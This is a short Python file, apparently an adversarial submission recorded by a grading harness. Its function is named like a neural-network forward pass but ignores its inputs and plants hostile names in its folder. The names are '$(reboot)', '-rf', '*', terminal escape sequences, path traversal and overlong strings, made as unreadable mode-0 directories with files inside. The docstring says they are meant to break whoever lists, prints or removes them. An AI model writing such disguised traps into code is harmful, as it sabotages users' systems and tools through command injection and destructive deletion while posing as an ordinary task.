"""Leaves names in its folder that break whoever lists, prints or removes them."""
# outcome: failed; rule: not-an-array|raised
import os


def nn_vmap_forward(seed, x_batch, features):
    for name in (b"\xff\xfe\n\x1b[2J", b"-rf", b"*", b"$(reboot)", b" ", b"..\\..", b"a" * 255):
        os.makedirs(name, mode=0, exist_ok=True)
        try:
            open(name + b"/" + name[:200], "w").close()
        except OSError:
            pass
